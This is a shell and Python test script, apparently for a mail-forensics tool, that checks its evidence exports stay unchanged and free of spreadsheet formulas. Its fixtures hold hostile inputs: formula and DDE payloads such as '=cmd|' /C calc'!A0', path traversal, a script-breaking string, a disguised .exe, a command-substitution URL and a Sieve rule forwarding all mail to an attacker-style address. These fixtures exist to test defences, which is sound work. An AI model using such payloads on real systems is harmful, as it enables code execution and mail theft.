#!/bin/sh
# test_exports.sh PROGRAM SCHEMAS - every export of a case with hostile mail, as other programs read it: bytes
# of mail unchanged, no formula in a spreadsheet, JSON of the shape that its readers ask for. The STIX bundle
# also against the OASIS schemas, where they and python3-jsonschema are.
set -eu
program=$1 schemas=$2
command -v python3 >/dev/null || { echo "skipped: no python3"; exit 77; }
dir=$(mktemp -d "${TMPDIR:-/tmp}/mailmedic-exports.XXXXXX")
trap 'rm -rf "$dir"' EXIT
cd "$dir"
python3 - <<'PYTHON'
import os
os.mkdir("in")
subjects = ["=cmd|' /C calc'!A0", '"=1+1', "+49 30 1", "-1", "@SUM(A1)", "=?utf-8?q?=EF=BC=9D1+1?=",
            "=?utf-8?q?=09=3D1?=", "=?utf-8?q?a=0D=0A=3D1,=22b?=", "=?utf-8?q?=E2=80=AEgpj.exe?=",
            "</script><b>\"';--", "../../etc/passwd", "con", "\\\\host\\share", "a" * 900, ""]
for i, subject in enumerate(subjects):
    with open(f"in/{i}.eml", "wb") as out:
        out.write(f"From: =HYPERLINK(1) <m{i}@evil.example>\r\nTo: owner@acme.example\r\nSubject: {subject}\r\n"
                  f"Date: Mon, 02 Jun 2025 10:{i:02}:00 +0000\r\nMessage-ID: <{i}@evil.example>\r\n\r\n"
                  "Hello\r\nFrom here on\r\n>From there\r\n>>From\tnobody\r\n\r\nFrom me".encode()
                  + (b"\r\n" if i % 2 else b""))
os.makedirs("in/=1+1/cur"), os.mkdir("in/=1+1/new"), os.mkdir("in/=1+1/tmp")
with open("in/=1+1/cur/1.mail:2,S", "wb") as out: # every column that a sender or a folder's maker chooses
    out.write(b"From: \"=1+1\" <=1+1@evil.example>\r\nTo: =2+2, owner@acme.example\r\nSubject: =3+3\r\n"
              b"Date: Mon, 02 Jun 2025 12:00:00 +0000\r\nMessage-ID: =4+4\r\n\r\nHello\r\n")
with open("in/program.eml", "wb") as out:
    out.write(b"From: a@evil.example\r\nTo: owner@acme.example\r\nSubject: Invoice\r\nDate: Mon, 02 Jun 2025 11:00:00 +0000\r\n"
              b"MIME-Version: 1.0\r\nContent-Type: application/octet-stream; name=\"=1+1.pdf.exe\"\r\n"
              b"Content-Disposition: attachment; filename=\"=1+1.pdf.exe\"\r\n\r\nMZ" + bytes(60) + b"PE" + bytes(200))
with open("in/signins.csv", "w") as out: # which does not tell how many mails were read
    out.write("time,user,ip,result\n2026-03-10T21:04:43Z,owner@acme.example,203.0.113.9,success\n")
with open("in/rules.sieve", "w") as out:
    out.write('if true { redirect "drop@evil.example"; }\n')
PYTHON
code() { want=$1; shift; got=0; "$@" >out 2>&1 || got=$?; [ "$got" = "$want" ] || { echo "$*: ended with $got"; cat out; exit 1; }; }
"$program" import c in --owner owner@acme.example --quiet >out 2>&1 || [ $? = 10 ] || [ $? = 20 ] || { cat out; exit 1; }
code 0 "$program" indicators c add ip 203.0.113.9 --note '=1+1' --tlp red
code 0 "$program" indicators c add ip 2001:db8::9
code 0 "$program" indicators c add cidr 198.51.100.0/24 --tlp clear
code 0 "$program" indicators c add cidr 2001:db8:1::/48
code 0 "$program" indicators c add domain 'xn--bcher-kva.example' --tlp green
code 0 "$program" indicators c add url "http://evil.example/a'b\"c\`d\$(e)?f=g&h"
code 0 "$program" indicators c add sha256 e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855
code 0 "$program" indicators c add domain withdrawn.example --note '@SUM(1)'
code 10 "$program" indicators c list --kind domain --json
number=$(python3 -c 'import json; print([i["id"] for i in json.load(open("out"))["items"] if i["value"] == "withdrawn.example"][0])')
code 0 "$program" indicators c withdraw "$number" --reason '=5+5'
code 10 "$program" findings c --json
number=$(python3 -c 'import json; print(json.load(open("out"))["items"][0]["id"])')
code 0 "$program" verdict c "$number" confirmed --reason '+6'
for format in eml mbox csv timesketch stix misp navigator; do
    code 0 "$program" export c --format "$format" -o "$format"
    code 2 "$program" export c --format "$format" -o "$format" # never over what is there
done
for target in plain nftables fail2ban postfix dovecot exchange google alimail; do
    code 0 "$program" export c --format blocklist --target "$target" -o "list-$target"
done
for folder in eml mbox csv list-postfix list-dovecot; do
    (cd "$folder" && sha256sum -c --quiet SHA256SUMS)
done
if command -v sievec >/dev/null; then sievec list-dovecot/block.sieve compiled; fi
code 0 "$program" verify c

# Nothing is written into the folder of a case, this one or another: the next check would call it altered.
find c.case -type f ! -name 'case.db-*' | sort >before
mkdir c.case/evidence/sub
for place in c.case/out c.case/evidence/out c.case/evidence/sub/out ./c.case//out/ "$PWD/c.case/evidence/../out"; do
    code 2 "$program" export c --format csv -o "$place"
    grep -q 'would lie in the case' out
    code 2 "$program" report c -o "${place%/}.html"
    code 2 "$program" sign c --note "$place" --passphrase-command 'echo a passphrase of some length'
    code 2 "$program" timestamp c --request "$place"
done
(cd c.case/evidence && code 2 "$program" report "$dir/c.case" -o here.html)
rmdir c.case/evidence/sub
rm -f c.case/evidence/out # of the line before
find c.case -type f ! -name 'case.db-*' | sort | cmp - before
code 2 "$program" export c --format csv -o before
grep -q 'is there already; nothing is overwritten' out
code 0 "$program" verify c

# A sealed case is read, and nothing is written to it.
echo 'a passphrase of some length' >word
code 0 "$program" seal c --passphrase-command 'cat word'
find c.case -type f | sort | xargs sha256sum >before
code 10 "$program" coverage c --json
mv out coverage.json
code 0 "$program" export c --format stix -o sealed.json
grep -q 'journal does not name this' out
find c.case -type f | sort | xargs sha256sum | cmp - before

python3 -W ignore - "$schemas/stix-2.1/schemas" <<'PYTHON'
import csv, hashlib, io, json, os, re, sys, uuid

def wrong(*words):
    print(*words)
    sys.exit(1)

given = {hashlib.sha256(open(f"in/{n}", "rb").read()).hexdigest() for n in os.listdir("in") if n.endswith(".eml")}
given.add(hashlib.sha256(open("in/=1+1/cur/1.mail:2,S", "rb").read()).hexdigest())
names = [n for n in os.listdir("eml") if n.endswith(".eml")]
if {hashlib.sha256(open(f"eml/{n}", "rb").read()).hexdigest() for n in names} != given:
    wrong("eml: not the bytes that were given")
for n in names:
    if not re.fullmatch(r"[0-9a-f]{12}(-[A-Za-z0-9_.-]+)?\.eml", n) or len(n) > 100:
        wrong("eml: name", n)
manifest = json.load(open("eml/manifest.json"))
if {(i["file"], i["sha256"]) for i in manifest["items"]} != {
        (n, hashlib.sha256(open(f"eml/{n}", "rb").read()).hexdigest()) for n in names}:
    wrong("eml: the manifest does not say what is there")

box = open("mbox/mail.mbox", "rb").read()
items = json.load(open("mbox/manifest.json"))["items"]
for item in items:
    piece = box[item["offset"]:item["offset"] + item["length"]]
    if hashlib.sha256(re.sub(rb"(?m)^>(>*From )", rb"\1", piece)).hexdigest() != item["sha256"]:
        wrong("mbox: cannot be undone:", item)
if len(items) != len(given) or len(re.findall(rb"(?m)^From ", box)) != len(given):
    wrong("mbox: another number of mails")

for name, columns in (("findings", 12), ("messages", 14), ("indicators", 11), ("timeline", 8),
                      ("logins", 17), ("coverage", 5)):
    text = open(f"csv/{name}.csv", "rb").read()
    if not text.startswith(b"\xef\xbb\xbf") or text.count(b"\r\n") != text.count(b"\n"):
        wrong("csv:", name, "byte order mark or line ends")
    rows = list(csv.reader(io.StringIO(text.decode("utf-8-sig"), newline=""), strict=True))
    if len(rows) < 2:
        wrong("csv:", name, "is empty")
    for row in rows:
        if len(row) != columns:
            wrong("csv:", name, "columns", row)
        for cell in row:
            if re.match("[\"' ]*[=+\\-@\t\r|%\uff1d\uff0b\uff0d\uff20]", cell) and not (
                    cell.startswith("'") or re.fullmatch(r"-?\d+", cell)):
                wrong("csv: a formula:", repr(cell))
            if any(ord(ch) < 32 or ch in "\u202e\u200b" for ch in cell):
                wrong("csv: hidden characters:", repr(cell))
shown = [row[8] for row in csv.reader(open("csv/messages.csv", encoding="utf-8-sig"))]
if not any(s.startswith("'=cmd|") for s in shown) or not any("<U+202E>" in s for s in shown):
    wrong("csv: the hostile subjects are not there", shown)

for name, columns in (("messages", ("folder", "from", "to", "subject", "message_id")),
                      ("findings", ("verdict_reason",)), ("indicators", ("note", "reason")),
                      ("timeline", ("from", "folder"))):
    rows = list(csv.DictReader(open(f"csv/{name}.csv", encoding="utf-8-sig", newline="")))
    for column in columns:
        if not any((row[column] or "").startswith("'") for row in rows):
            wrong(f"csv: {name}: no formula came as far as the column {column}; is it tried at all?")

def table(name):
    return list(csv.DictReader(open(f"csv/{name}.csv", encoding="utf-8-sig", newline="")))

# What is not known is an empty cell, and no number.
if [row["messages_read"] for row in table("logins")] != [""]:
    wrong("csv: how many mails were read is not known", table("logins"))
if any(row["lure_score"].startswith("-") for row in table("messages")):
    wrong("csv: a score where none was given")
if any((row["finding"] == "") != (row["source"] == "hand") for row in table("indicators")):
    wrong("csv: the finding of what somebody added by hand")
if [(row["check"], row["state"]) for row in table("coverage")] != [
        (row["check"], row["state"]) for row in json.load(open("coverage.json"))["items"]]:
    wrong("csv: coverage", table("coverage"))

seen = 0
for line in open("timesketch", encoding="utf-8"):
    event = json.loads(line)
    seen += 1
    if not event["message"] or not event["timestamp_desc"] or not re.fullmatch(
            r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\+00:00", event["datetime"]):
        wrong("timesketch:", event)
if seen < len(given):
    wrong("timesketch: events are missing")

event = json.load(open("misp"))["Event"]
kinds = {"ip-src", "email", "domain", "url", "sha256"}
for key in ("uuid", "date", "info", "threat_level_id", "analysis", "distribution", "published", "timestamp"):
    event[key]
if event["published"] or {a["type"] for a in event["Attribute"]} != kinds:
    wrong("misp: attributes", event["Attribute"])
for attribute in event["Attribute"]:
    if attribute["to_ids"] is not True or uuid.UUID(attribute["uuid"]).version != 5:
        wrong("misp:", attribute)

layer = json.load(open("navigator"))
if layer["domain"] != "enterprise-attack" or layer["versions"]["layer"] != "4.5" or not layer["techniques"]:
    wrong("navigator:", layer)
for technique in layer["techniques"]:
    if not re.fullmatch(r"T\d{4}(\.\d{3})?", technique["techniqueID"]) or not 0 < technique["score"] <= 100:
        wrong("navigator:", technique)

bundle = json.load(open("stix"))
ids = {o["id"] for o in bundle["objects"]}
space = uuid.UUID("00abedb4-aa42-466c-9c23-fed23e77cc41")
if len(ids) != len(bundle["objects"]):
    wrong("stix: two objects with one id")
for thing in bundle["objects"]:
    for ref in thing.get("object_refs", []) + [thing.get("created_by_ref", bundle["objects"][0]["id"])]:
        if ref not in ids:
            wrong("stix: leads nowhere:", ref)
    parts = {k: thing[k] for k in ("value", "hashes") if k in thing}
    if parts:
        name = json.dumps(parts, separators=(",", ":"), ensure_ascii=False, sort_keys=True)
        if thing["id"] != f'{thing["type"]}--{uuid.uuid5(space, name)}':
            wrong("stix: not the id of its contents:", thing)
kinds = [o["type"] for o in bundle["objects"]]
if kinds.count("indicator") != 9 or kinds.count("report") != 1 or kinds.count("file") != 1 or \
        kinds.count("observed-data") != 1:
    wrong("stix:", kinds)

try:
    import jsonschema
except ImportError:
    jsonschema = None
if not jsonschema or not os.path.isdir(sys.argv[1]):
    print("stix: not held against the schemas: they or python3-jsonschema are not here")
    sys.exit(0)
documents = {}
by_name = {}
for root, _, files in os.walk(sys.argv[1]):
    for name in files:
        document = json.load(open(os.path.join(root, name)))
        documents[document["$id"]] = document
        by_name[name[:-5]] = document
def validator_of(schema):
    try:
        from referencing import Registry, Resource
        from referencing.jsonschema import DRAFT202012
        registry = Registry().with_resources(
            (i, Resource.from_contents(d, default_specification=DRAFT202012)) for i, d in documents.items())
        return jsonschema.Draft202012Validator(schema, registry=registry)
    except ImportError:
        return jsonschema.Draft202012Validator(
            schema, resolver=jsonschema.RefResolver(schema["$id"], schema, store=documents))
for thing in bundle["objects"] + [bundle]:
    validator = validator_of(by_name[thing["type"]])
    if not list(validator.iter_errors({k: v for k, v in thing.items() if k != "id"})):
        wrong("the schema takes anything")
    for error in validator.iter_errors(thing):
        wrong("stix:", thing["type"], list(error.path), error.message[:300])
PYTHON
